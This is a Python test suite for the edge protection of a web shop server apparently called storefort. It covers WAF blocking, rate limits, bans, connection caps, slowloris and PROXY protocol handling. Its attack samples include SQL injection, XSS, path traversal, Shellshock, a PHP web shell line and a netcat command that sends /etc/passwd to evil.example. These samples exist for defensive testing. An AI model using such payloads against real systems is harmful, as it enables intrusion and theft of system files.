#!/usr/bin/env python3
"""edge_test.py — edge protection against the real storefort binary (TAP output).

The WAF in block mode (SQLi, XSS, path traversal, RCE and PHP injection samples in the
query string, a form body, a JSON body, multipart, cookies and headers -> 403 with the
request id, JSON under /api/ and HTML elsewhere), the WAF log (one JSON line per matched
rule, redacted), detect mode, reloading rules on SIGHUP without dropping a connection,
rate limits (429 + Retry-After), bans (threshold, refused at accept, allow list, longer on
repeat, `storefort bans list|lift`, audited), connection caps, slow and oversized
requests, and the client address behind trusted proxies: X-Forwarded-For (and a forged
one from an untrusted peer) and the PROXY protocol v1/v2 (hand-made headers, malformed and
withheld ones, an untrusted peer's claim, bans and rate limits per client, and HAProxy).  Other loopback addresses (127.0.0.x) play other clients.
"""
import argparse
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import ssl
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import app_test as A  # noqa: E402  (CLI, Server, check, tls_ctx)

check = A.check
UA = 'Mozilla/5.0 (edge tests)'


def conn(port, src='127.0.0.1', timeout=10):
    s = socket.create_connection(('127.0.0.1', port), timeout=timeout, source_address=(src, 0))
    return A.tls_ctx().wrap_socket(s, server_hostname='localhost')


def read_response(s):
    """Read one response (Content-Length framed); returns (status, headers, body)."""
    buf = b''
    while b'\r\n\r\n' not in buf:
        b = s.recv(65536)
        if not b:
            break
        buf += b
    head, _, body = buf.partition(b'\r\n\r\n')
    lines = head.decode('latin-1').split('\r\n')
    try:
        status = int(lines[0].split()[1])
    except (IndexError, ValueError):
        return 0, {}, b''
    h = {}
    for l in lines[1:]:
        k, _, v = l.partition(':')
        h[k.strip().lower()] = v.strip()
    n = int(h.get('content-length', '0'))
    while len(body) < n:
        b = s.recv(65536)
        if not b:
            break
        body += b
    return status, h, body


def req(port, path, method='GET', headers=None, body=None, src='127.0.0.1', sock=None):
    """One request; a new connection unless sock is given.  status 0: refused/closed."""
    h = {'Host': 'localhost', 'User-Agent': UA, 'Accept': '*/*'}
    if sock is None:
        h['Connection'] = 'close'
    h.update(headers or {})
    if body is not None:
        h['Content-Length'] = str(len(body))
    data = ('%s %s HTTP/1.1\r\n' % (method, path) + ''.join('%s: %s\r\n' % kv for kv in h.items()) +
            '\r\n').encode('latin-1') + (body or b'')
    own = sock is None
    try:
        s = sock or conn(port, src)
        s.sendall(data)
        r = read_response(s)
    except (OSError, ssl.SSLError):
        return 0, {}, b''
    if own:
        s.close()
    A.contract.record(method, path, *r)
    return r


def waf_events(d):
    p = os.path.join(d, 'log', 'waf.log')
    if not os.path.exists(p):
        return []
    with open(p, encoding='utf-8') as f:
        return [json.loads(l) for l in f if l.strip()]


def access_lines(d):
    with open(os.path.join(d, 'log', 'access.log'), encoding='utf-8') as f:
        return [json.loads(l) for l in f if l.strip()]


def access_line(d, rid, wait=5.0):
    """The access line of request rid; lines are buffered up to
    [log] access_flush_ms (1 s by default), so wait for it."""
    end = time.monotonic() + wait
    while True:
        line = [l for l in access_lines(d) if l.get('request_id') == rid]
        if line or time.monotonic() > end:
            return line
        time.sleep(0.05)


def multipart(name, value):
    b = 'xYzBoUnDaRy'
    body = ('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n--%s--\r\n' % (b, name, value, b))
    return body.encode(), 'multipart/form-data; boundary=' + b


# A header each CRS rule family inspects at paranoia 1.
HEADER_SAMPLES = {
    'sqli': ('Referer', "1' UNION SELECT username, password FROM users--"),
    'xss': ('Referer', '<script>alert(document.cookie)</script>'),
    'traversal': ('X-Path', '../../../../etc/passwd'),
    'rce': ('User-Agent', '() { :; }; /bin/bash -c "cat /etc/passwd"'),
    'php': ('X-Filename', 'shell.php'),
}

SAMPLES = {
    'sqli': "1' UNION SELECT username, password FROM users--",
    'xss': '<script>alert(document.cookie)</script>',
    'traversal': '../../../../etc/passwd',
    'rce': '; cat /etc/passwd | nc evil.example 4444',
    'php': '<?php system($_GET["c"]); ?>',
}


def test_block(srv, d):
    P = srv.https
    for kind, v in SAMPLES.items():
        q = v.replace('%', '%25').replace(' ', '%20').replace('#', '%23').replace('&', '%26') \
             .replace('<', '%3C').replace('>', '%3E').replace('"', '%22').replace("'", '%27') \
             .replace(';', '%3B').replace('|', '%7C').replace('$', '%24').replace('?', '%3F')
        places = {
            'query': dict(path='/api/v1/products?q=' + q),
            'form body': dict(path='/search', method='POST', body=('q=' + q).encode(),
                              headers={'Content-Type': 'application/x-www-form-urlencoded'}),
            'JSON body': dict(path='/api/v1/products', method='POST', body=json.dumps({'q': v}).encode(),
                              headers={'Content-Type': 'application/json'}),
            'cookie': dict(path='/', headers={'Cookie': 'pref=' + q}),
            'header': dict(path='/', headers=dict([HEADER_SAMPLES[kind]])),
        }
        body, ct = multipart('q', v)
        places['multipart'] = dict(path='/search', method='POST', body=body, headers={'Content-Type': ct})
        for place, kw in places.items():
            st, h, b = req(P, **kw)
            rid = h.get('x-request-id', '')
            check('WAF blocks %s in the %s: 403 with the request id' % (kind, place),
                  st == 403 and re.fullmatch(r'[a-z2-7]{26}', rid) and rid.encode() in b, (st, h, b[:200]))
    st, h, b = req(P, '/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E')
    j = A.jbody(b)
    check('block under /api/: JSON error request_blocked with the request id',
          st == 403 and j and j['error']['code'] == 'request_blocked' and
          j['error']['request_id'] == h.get('x-request-id'), b[:200])
    st, h, b = req(P, '/search?q=%3Cscript%3Ealert(1)%3C/script%3E')
    check('block elsewhere: an HTML page with the request id',
          st == 403 and h.get('content-type', '').startswith('text/html') and h['x-request-id'].encode() in b,
          (st, h))
    rid = h.get('x-request-id')
    time.sleep(0.3)
    ev = [e for e in waf_events(d) if e['request_id'] == rid]
    rules = [e for e in ev if 'rule_id' in e]
    check('WAF log: the matched rules of that request, in order, as JSON lines with id, phase, message',
          len(rules) >= 2 and all(isinstance(e['rule_id'], int) and e['phase'] in (1, 2) and e['msg']
                                  for e in rules), ev)
    check('WAF log: the verdict follows the rules', ev and ev[-1].get('action') == 'blocked' and
          ev[-1]['status'] == 403 and ev[-1]['events'] == len(rules), ev[-1:])
    st, h, b = req(P, '/search', method='POST', headers={'Content-Type': 'application/x-www-form-urlencoded'},
                   body=b"q=ok&password=%27%20OR%201%3D1--%20SeCrEt9&session_token=x%27%20UNION%20SELECT%201--")
    time.sleep(0.3)
    blob = open(os.path.join(d, 'log', 'waf.log'), encoding='utf-8').read()
    rid = h.get('x-request-id', '-')
    check('an attack in a password field is blocked and logged', st == 403 and rid in blob, st)
    check('WAF log redacts secret-named values', 'SeCrEt9' not in blob and '[redacted]' in blob)
    st, h, b = req(P, '/static/app.css?x=%3Cscript%3Ealert(1)%3C/script%3E')
    check('embedded static assets are not inspected', st == 200, st)
    st, h, b = req(P, '/api/v1/products?q=shirt')
    check('a benign request passes', st == 200, st)
    con = sqlite3.connect(os.path.join(d, 'db', 'storefort.db'))
    n = con.execute("SELECT count(*) FROM waf_events WHERE action = 'blocked'").fetchone()[0]
    con.close()
    check('WAF events kept in the database for the back office', n > 0, n)


def test_detect(cli, ini, d):
    srv = A.Server(cli, ini, env={'STOREFORT_WAF_MODE': 'detect'})
    try:
        st, h, b = req(srv.https, '/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E')
        rid = h.get('x-request-id')
        time.sleep(0.3)
        ev = [e for e in waf_events(d) if e['request_id'] == rid]
        check('detect mode: not blocked', st == 200, st)
        check('detect mode: the events are logged', ev and all(e['mode'] == 'detect' for e in ev), ev)
    finally:
        srv.stop()


def test_reload(cli, ini, d):
    extra = os.path.join(d, 'extra.conf')
    with open(extra, 'w') as f:
        f.write('# local rules\n')
    srv = A.Server(cli, ini, env={'STOREFORT_WAF_RULES_EXTRA': extra})
    try:
        P = srv.https
        s = conn(P)
        st1, _, _ = req(P, '/healthz', sock=s)
        st, _, _ = req(P, '/api/v1/products?probe=edge-reload-marker')
        check('before reload: the probe passes', st == 200 and st1 == 200, st)
        with open(extra, 'w') as f:
            f.write('SecRule ARGS:probe "@streq edge-reload-marker" '
                    '"id:1009001,phase:2,deny,status:403,log,msg:\'local rule\'"\n')
        srv.proc.send_signal(signal.SIGHUP)
        time.sleep(3)
        st, _, _ = req(P, '/api/v1/products?probe=edge-reload-marker')
        check('after SIGHUP: the new local rule blocks', st == 403, st)
        st2, _, _ = req(P, '/healthz', sock=s)
        check('a keep-alive connection opened before the reload still works', st2 == 200, st2)
        s.close()
        with open(extra, 'w') as f:
            f.write('NotADirective On\n')
        srv.proc.send_signal(signal.SIGHUP)
        time.sleep(3)
        st, _, _ = req(P, '/api/v1/products?probe=edge-reload-marker')
        check('a broken rule file on reload keeps the old rules', st == 403 and srv.proc.poll() is None, st)
    finally:
        srv.stop()


def test_ratelimit_and_bans(cli, ini, d):
    env = {'STOREFORT_RATELIMIT_READ': '5/60', 'STOREFORT_BANS_WAF_BLOCKS': '3',
           'STOREFORT_BANS_RATE_LIMIT_HITS': '4', 'STOREFORT_BANS_DURATION': '60',
           'STOREFORT_BANS_ALLOW': '127.0.0.1'}
    srv = A.Server(cli, ini, env=env)
    try:
        P = srv.https
        sts = [req(P, '/api/v1/products', src='127.0.0.7')[0] for _ in range(5)]
        st, h, b = req(P, '/api/v1/products', src='127.0.0.7')
        check('rate limit: 5 reads pass, the 6th is 429 with Retry-After',
              sts == [200] * 5 and st == 429 and int(h.get('retry-after', '0')) >= 1, (sts, st, h))
        check('rate limit: other addresses are not affected', req(P, '/api/v1/products', src='127.0.0.8')[0] == 200)
        check('health checks are not rate limited', all(req(P, '/healthz', src='127.0.0.7')[0] == 200
                                                          for _ in range(8)))
        for _ in range(3):
            req(P, '/api/v1/products', src='127.0.0.7')
        time.sleep(0.5)
        st, _, _ = req(P, '/healthz', src='127.0.0.7')
        check('repeated rate-limit hits ban the address (refused at accept)', st == 0, st)
        # WAF blocks
        for _ in range(3):
            st, _, _ = req(P, '/healthz?q=%3Cscript%3Ealert(1)%3C/script%3E', src='127.0.0.9')
        time.sleep(0.5)
        check('WAF blocks past the threshold ban the address', req(P, '/healthz', src='127.0.0.9')[0] == 0)
        check('other clients keep being served', req(P, '/healthz', src='127.0.0.10')[0] == 200)
        for _ in range(6):
            req(P, '/healthz?q=%3Cscript%3Ealert(1)%3C/script%3E')
        time.sleep(0.5)
        check('an allow-listed address is never banned', req(P, '/healthz')[0] == 200)
        rc, out, err = cli.run('--config', ini, 'bans', 'list')
        check('bans list shows both addresses', rc == 0 and '127.0.0.7' in out and '127.0.0.9' in out and
              'waf_blocks' in out and 'rate_limit_hits' in out, (rc, out, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'lift', '127.0.0.9')
        check('bans lift ADDRESS', rc == 0 and 'lifted' in out, (rc, out, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'lift', '127.0.0.9')
        check('bans lift of an address not banned: exit 1 naming it', rc == 1 and '127.0.0.9' in err, (rc, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'lift', 'not-an-ip')
        check('bans lift with a bad address: usage error', rc == 2, (rc, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'frobnicate')
        check('bans with an unknown subcommand: usage error', rc == 2, (rc, err))
        rc, out, err = cli.run('bans', '--help')
        check('bans --help', rc == 0 and 'lift ADDRESS' in out, (rc, out))
        time.sleep(3)
        check('the running server applies the lift', req(P, '/healthz', src='127.0.0.9')[0] == 200)
        for _ in range(3):
            req(P, '/healthz?q=%3Cscript%3Ealert(1)%3C/script%3E', src='127.0.0.9')
        time.sleep(0.5)
        con = sqlite3.connect(os.path.join(d, 'db', 'storefort.db'))
        row = con.execute("SELECT strikes, until_at - banned_at FROM edge_bans WHERE ip = '127.0.0.9'").fetchone()
        acts = [r[0] for r in con.execute("SELECT action FROM audit_events WHERE action LIKE 'edge.%'")]
        con.close()
        check('a repeat ban lasts longer', row == (2, 120), row)
        check('every ban and lift is audited', acts.count('edge.ban') == 3 and acts.count('edge.ban_lift') == 1,
              acts)
        rc, out, err = cli.run('--config', ini, 'audit', 'verify')
        check('the audit chain verifies after bans', rc == 0, (rc, out, err))
    finally:
        srv.stop()
    for ip in ('127.0.0.7', '127.0.0.9'):
        cli.run('--config', ini, 'bans', 'lift', ip)


def test_connections(cli, ini, d):
    env = {'STOREFORT_SERVER_TIMEOUT': '3', 'STOREFORT_SERVER_MAX_CONNECTIONS_PER_IP': '4'}
    srv = A.Server(cli, ini, env=env)
    try:
        P = srv.https
        held = [conn(P, '127.0.0.11') for _ in range(4)]
        s5 = conn(P, '127.0.0.11')
        st, h, _ = req(P, '/api/v1/products', sock=s5, headers={'Connection': 'keep-alive'})
        check('per-address connection cap: the next connection is answered 503 with Retry-After',
              st == 503 and h.get('retry-after') == '1' and h.get('connection', '').lower() == 'close', (st, h))
        try:
            s5.settimeout(5)
            gone = s5.recv(100) == b''
        except (OSError, ssl.SSLError):
            gone = True
        check('per-address cap: and then closed', gone)
        check('per-address cap: other addresses are served', req(P, '/healthz', src='127.0.0.12')[0] == 200)
        # Far beyond the cap the connection is not even answered (libmicrohttpd's hard stop).
        extra = []
        for _ in range(12):
            try:
                extra.append(conn(P, '127.0.0.11', timeout=3))
            except (OSError, ssl.SSLError):
                extra.append(None)
        check('per-address cap: far beyond it, connections are refused outright', None in extra,
              [x is None for x in extra])
        for s in held + [x for x in extra if x]:
            s.close()
        time.sleep(0.3)
        check('per-address cap: served again once connections closed', req(P, '/healthz', src='127.0.0.11')[0] == 200)
        # slowloris: one byte a second never completes the headers
        s = conn(P, '127.0.0.13')
        t0 = time.time()
        closed = False
        served = None
        for i, ch in enumerate(b'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ' + b'a' * 40):
            try:
                s.send(bytes([ch]))
            except (OSError, ssl.SSLError):
                closed = True
                break
            if i == 2:
                served = req(P, '/healthz', src='127.0.0.14')[0]
            time.sleep(0.5)
            if time.time() - t0 > 12:
                break
        if not closed:
            try:
                s.settimeout(2)
                closed = s.recv(100) == b''
            except (OSError, ssl.SSLError):
                closed = True
        check('slowloris: the slow connection is closed by the timeout', closed and time.time() - t0 < 12,
              time.time() - t0)
        check('slowloris: other clients are served meanwhile', served == 200, served)
        st, _, _ = req(P, '/search', method='POST', body=b'q=' + b'a' * (2 * 1024 * 1024),
                       headers={'Content-Type': 'application/x-www-form-urlencoded'})
        check('oversized body: refused (413, or 405 where POST has no route), never 5xx', st in (405, 413), st)
        st, _, _ = req(P, '/', headers={'X-Big': 'b' * 40000})
        check('oversized headers: refused', st in (0, 400, 413, 431), st)
        check('served after the oversized requests', req(P, '/healthz')[0] == 200)
    finally:
        srv.stop()


def test_proxy(cli, ini, d):
    srv = A.Server(cli, ini)
    try:
        rid = req(srv.https, '/healthz', headers={'X-Forwarded-For': '203.0.113.50'})[1].get('x-request-id')
        line = access_line(d, rid)
        check('untrusted peer: a forged X-Forwarded-For is ignored', line and line[0]['ip'] == '127.0.0.1', line)
    finally:
        srv.stop()
    env = {'STOREFORT_PROXY_TRUSTED': '127.0.0.0/8', 'STOREFORT_RATELIMIT_READ': '2/60'}
    srv = A.Server(cli, ini, env=env)
    try:
        P = srv.https
        rid = req(P, '/healthz', headers={'X-Forwarded-For': '6.6.6.6, 203.0.113.51, 127.0.0.3'})[1] \
            .get('x-request-id')
        line = access_line(d, rid)
        check('trusted proxy: the client is the rightmost untrusted hop (access log)',
              line and line[0]['ip'] == '203.0.113.51', line)
        sts = [req(P, '/api/v1/products', headers={'X-Forwarded-For': '198.51.100.%d' % (i % 2)})[0]
               for i in range(6)]
        check('trusted proxy: rate limits apply per resolved client', sts.count(429) == 2 and sts[:4] == [200] * 4,
              sts)
    finally:
        srv.stop()
    srv = A.Server(cli, ini, env={'STOREFORT_SERVER_MAX_CONNECTIONS': '6'})
    try:
        P = srv.https
        time.sleep(0.3)  # the start-up probe's connection has gone
        held = [conn(P, '127.0.0.%d' % (20 + i)) for i in range(6)]
        st, h, _ = req(P, '/api/v1/products', src='127.0.0.30')
        check('total connection cap: the next connection is answered 503', st == 503, (st, h))
        for s in held:
            s.close()
        time.sleep(0.3)
        check('total connection cap: served again once connections closed',
              req(P, '/healthz', src='127.0.0.30')[0] == 200)
    finally:
        srv.stop()
    rc, out, err = cli.run('--config', ini, 'serve', env={'STOREFORT_PROXY_TRUSTED': '10.0.0.0/33'})
    check('a bad [proxy] trusted entry is refused naming the setting', rc == 1 and '[proxy] trusted' in err,
          (rc, err))
    rc, out, err = cli.run('--config', ini, 'serve', env={'STOREFORT_RATELIMIT_AUTH': 'lots'})
    check('a bad rate is refused naming the setting', rc == 1 and '[ratelimit] auth' in err, (rc, err))
    rc, out, err = cli.run('--config', ini, 'serve', env={'STOREFORT_WAF_MODE': 'maybe'})
    check('a bad WAF mode is refused naming the setting', rc == 1 and 'WAF_MODE' in err, (rc, err))

V2_SIG = b'\r\n\r\n\x00\r\nQUIT\n'


def v2_header(ip, port=40000, local=False):
    """A PROXY protocol v2 header naming ip:port (TCP), or a LOCAL one."""
    if local:
        return V2_SIG + b'\x20\x00\x00\x00'
    if ':' in ip:
        body = socket.inet_pton(socket.AF_INET6, ip) + socket.inet_pton(socket.AF_INET6, '::1')
        fam = b'\x21'
    else:
        body = socket.inet_aton(ip) + socket.inet_aton('127.0.0.1')
        fam = b'\x11'
    body += port.to_bytes(2, 'big') + (8443).to_bytes(2, 'big')
    return V2_SIG + b'\x21' + fam + len(body).to_bytes(2, 'big') + body


def proxied(port, header, path='/healthz', src='127.0.0.1', headers=None, split=False):
    """A request over TLS behind a PROXY header sent first on the raw socket.
    Returns (status, headers); status 0 when the connection was closed."""
    try:
        s = socket.create_connection(('127.0.0.1', port), timeout=10, source_address=(src, 0))
        if split:  # the header in two segments, the second after a pause
            s.sendall(header[:7])
            time.sleep(0.3)
            s.sendall(header[7:])
        elif header:
            s.sendall(header)
        t = A.tls_ctx().wrap_socket(s, server_hostname='localhost')
        st, h, _ = req(port, path, headers=headers, sock=t)
        t.close()
        return st, h
    except (OSError, ssl.SSLError):
        return 0, {}


def logged_ip(d, h):
    rid = h.get('x-request-id')
    line = access_line(d, rid) if rid else []
    return line[0]['ip'] if line else None


def test_proxy_protocol(cli, ini, d):
    """PROXY protocol: believed only from trusted peers (127.0.0.1 here), required from them."""
    env = {'STOREFORT_PROXY_TRUSTED': '127.0.0.1', 'STOREFORT_PROXY_PROTOCOL': 'on',
           'STOREFORT_RATELIMIT_READ': '2/60', 'STOREFORT_BANS_RATE_LIMIT_HITS': '3'}
    srv = A.Server(cli, ini, env=env)
    try:
        P = srv.https
        st, h = proxied(P, b'PROXY TCP4 203.0.113.60 127.0.0.1 40000 8443\r\n')
        check('PROXY v1 from a trusted proxy: served, the client is the header\'s address',
              st == 200 and logged_ip(d, h) == '203.0.113.60', (st, logged_ip(d, h)))
        st, h = proxied(P, v2_header('2001:db8::60'))
        check('PROXY v2 (IPv6 client) from a trusted proxy', st == 200 and logged_ip(d, h) == '2001:db8::60',
              (st, logged_ip(d, h)))
        st, h = proxied(P, v2_header('', local=True))
        check('PROXY v2 LOCAL (the proxy\'s own health check): the peer address stands',
              st == 200 and logged_ip(d, h) == '127.0.0.1', (st, logged_ip(d, h)))
        st, h = proxied(P, v2_header('203.0.113.61'), split=True)
        check('a header arriving in two segments is waited for', st == 200 and logged_ip(d, h) == '203.0.113.61',
              (st, logged_ip(d, h)))
        st, h = proxied(P, b'PROXY TCP4 203.0.113.62 127.0.0.1 1 2\r\n',
                        headers={'X-Forwarded-For': '198.51.100.9'})
        check('behind PROXY, an X-Forwarded-For from the (untrusted) client is ignored',
              st == 200 and logged_ip(d, h) == '203.0.113.62', (st, logged_ip(d, h)))
        st, _ = proxied(P, b'')
        check('a trusted proxy\'s connection without a PROXY header is closed', st == 0, st)
        for bad in (b'PROXY TCP4 203.0.113.63 127.0.0.1 99999 1\r\n', b'PROXY TCP4 1.2.3\r\n',
                    V2_SIG + b'\x21\x12\x00\x0c' + b'\x00' * 12, b'GET / HTTP/1.1\r\n\r\n'):
            st, _ = proxied(P, bad)
            check('a malformed PROXY header is refused: %r' % bad[:24], st == 0, st)
        # A trusted peer that sends nothing holds no one up and is closed after the deadline.
        idle = socket.create_connection(('127.0.0.1', P), timeout=10)
        t0 = time.time()
        st, h = proxied(P, b'PROXY TCP4 203.0.113.64 127.0.0.1 1 2\r\n')
        check('others are served while a trusted peer withholds its header', st == 200, st)
        idle.settimeout(10)
        try:
            gone = idle.recv(1) == b''
        except OSError:
            gone = True
        check('a withheld PROXY header: closed after the deadline (5 s)', gone and time.time() - t0 < 9,
              time.time() - t0)
        idle.close()
        # At most 256 connections may wait for their header; beyond that they are closed at once
        # (only a trusted proxy can fill the queue), and direct clients are served all along.
        idles = [socket.create_connection(('127.0.0.1', P), timeout=10) for _ in range(264)]
        time.sleep(0.5)
        st, h = proxied(P, b'', src='127.0.0.2')
        check('with the PROXY header queue full, direct clients are still served', st == 200, st)
        with open(os.path.join(d, 'log', 'app.log'), encoding='utf-8') as f:
            full = 'awaiting a PROXY header' in f.read()
        check('a full PROXY header queue is logged', full)
        for x in idles:
            x.close()
        time.sleep(0.5)
        st, h = proxied(P, b'PROXY TCP4 203.0.113.65 127.0.0.1 1 2\r\n')
        check('once the queue drains, proxied connections are served again', st == 200, st)
        # An untrusted peer's header is not read: its bytes stay the TLS stream and the handshake fails.
        st, _ = proxied(P, b'PROXY TCP4 203.0.113.66 127.0.0.1 1 2\r\n', src='127.0.0.2')
        check('an untrusted peer cannot claim an address with a PROXY header', st == 0, st)
        st, h = proxied(P, b'', src='127.0.0.2')
        check('an untrusted peer is served directly with its socket address',
              st == 200 and logged_ip(d, h) == '127.0.0.2', (st, logged_ip(d, h)))
        # The same claim where the server does read a request: in X-Forwarded-For from that
        # untrusted peer.  It is served, and logged with its socket address only.
        st, h = proxied(P, b'', src='127.0.0.2', headers={'X-Forwarded-For': '203.0.113.66'})
        check('an untrusted peer\'s X-Forwarded-For claim is served but not believed',
              st == 200 and logged_ip(d, h) == '127.0.0.2', (st, logged_ip(d, h)))
        time.sleep(1.6)  # every buffered access line is written by now ([log] access_flush_ms 1 s)
        check('no request was ever logged with the address an untrusted peer claimed',
              not [l for l in access_lines(d) if l.get('ip') == '203.0.113.66'])
        # Rate limits and bans follow the client named by the header, not the proxy.
        hdr = b'PROXY TCP4 203.0.113.70 127.0.0.1 1 2\r\n'
        sts = [proxied(P, hdr, '/api/v1/products')[0] for _ in range(6)]
        check('behind PROXY: rate limited per client (2 then 429)', sts[:2] == [200, 200] and 429 in sts, sts)
        st, _ = proxied(P, hdr, '/healthz')
        check('behind PROXY: the client is banned at accept', st == 0, (sts, st))
        st, h = proxied(P, b'PROXY TCP4 203.0.113.71 127.0.0.1 1 2\r\n', '/api/v1/products')
        check('behind PROXY: another client through the same proxy is still served', st == 200, st)
    finally:
        srv.stop()
    rc, out, err = cli.run('--config', ini, 'serve', env={'STOREFORT_PROXY_PROTOCOL': 'on'})
    check('[proxy] protocol without trusted proxies is refused naming the setting',
          rc == 1 and '[proxy] protocol' in err, (rc, err))
    cli.run('--config', ini, 'bans', 'lift', '203.0.113.70')


def test_haproxy(cli, ini, d):
    """A real proxy: HAProxy in TCP mode passes TLS through and sends PROXY v1 or v2."""
    if not shutil.which('haproxy'):
        check('haproxy is installed (scripts/install-deps)', False)
        return
    srv = A.Server(cli, ini, env={'STOREFORT_PROXY_TRUSTED': '127.0.0.1', 'STOREFORT_PROXY_PROTOCOL': 'on'})
    tmp = tempfile.mkdtemp(prefix='sf-haproxy-')
    hp = None
    try:
        f1, f2 = A.free_port(), A.free_port()
        cfg = os.path.join(tmp, 'haproxy.cfg')
        with open(cfg, 'w') as f:
            f.write('global\n  maxconn 100\ndefaults\n  mode tcp\n  timeout connect 5s\n'
                    '  timeout client 30s\n  timeout server 30s\n'
                    'listen v1\n  bind 127.0.0.1:%d\n  server sf 127.0.0.1:%d send-proxy source 127.0.0.1\n'
                    'listen v2\n  bind 127.0.0.1:%d\n  server sf 127.0.0.1:%d send-proxy-v2 source 127.0.0.1\n'
                    % (f1, srv.https, f2, srv.https))
        hp = subprocess.Popen(['haproxy', '-db', '-f', cfg], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                socket.create_connection(('127.0.0.1', f2), timeout=0.5).close()
                break
            except OSError:
                time.sleep(0.1)
        for name, port, src in (('v1', f1, '127.0.0.5'), ('v2', f2, '127.0.0.6')):
            st, h, _ = req(port, '/healthz', src=src)
            check('through HAProxy (send-proxy %s): the client address is the client\'s, not the proxy\'s' % name,
                  st == 200 and logged_ip(d, h) == src, (st, logged_ip(d, h)))
    finally:
        if hp:
            hp.terminate()
            hp.wait(timeout=10)
        srv.stop()
        shutil.rmtree(tmp, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--binary', required=True)
    a = ap.parse_args()
    cli = A.CLI(os.path.abspath(a.binary))
    tmp = tempfile.mkdtemp(prefix='sf-edge-')
    try:
        d = os.path.join(tmp, 'data')
        rc, out, err = cli.run('init', '--dir', d, '--demo', timeout=300)
        check('init a data directory', rc == 0, (rc, err))
        ini = os.path.join(d, 'storefort.ini')
        srv = A.Server(cli, ini)
        try:
            test_block(srv, d)
        finally:
            srv.stop()
        test_detect(cli, ini, d)
        test_reload(cli, ini, d)
        test_ratelimit_and_bans(cli, ini, d)
        test_connections(cli, ini, d)
        test_proxy(cli, ini, d)
        test_proxy_protocol(cli, ini, d)
        test_haproxy(cli, ini, d)
    except Exception:
        import traceback
        check('edge tests ran to the end', False, traceback.format_exc())
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    return A.summary()


if __name__ == '__main__':
    sys.exit(main())
